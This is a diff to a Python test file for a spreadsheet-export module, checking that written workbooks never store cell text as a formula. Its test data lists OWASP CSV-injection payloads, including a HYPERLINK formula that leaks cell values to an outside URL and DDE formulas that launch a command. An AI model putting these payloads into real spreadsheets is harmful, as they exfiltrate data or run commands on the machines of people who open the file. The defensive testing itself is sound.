@@ -1,4 +1,4 @@
-"""Tests for cprstats.xlsxio: workbooks whose text is never a formula, byte-identical across runs.
+"""Tests for cprstats.io.spreadsheet: workbooks whose text is never a formula, byte-identical across runs.
 
 Reference values: the payloads are the OWASP "CSV Injection" examples
 (https://owasp.org/www-community/attacks/CSV_Injection); a formula is stored in a worksheet as
@@ -16,11 +16,11 @@ import zipfile
 import pandas as pd
 import pytest
 
-from cprstats import xlsxio
+import cprstats.io.spreadsheet as xlsxio
 from cprstats.errors import ParameterError
 
 OWASP_PAYLOADS = [
-    "=HYPERLINK(\"http://contextis.co.uk?leak=\"&A1&A2,\"Error: please click for further information\")",
+    '=HYPERLINK("http://contextis.co.uk?leak="&A1&A2,"Error: please click for further information")',
     "=cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
     "+1+cmd|' /C calc'!A0",
@@ -80,5 +80,3 @@ def test_save_workbook_requires_xlsx(tmp_path):
 
     with pytest.raises(ParameterError, match=r"must end in \.xlsx"):
         xlsxio.save_workbook(Workbook(), tmp_path / "t.csv")
-
-
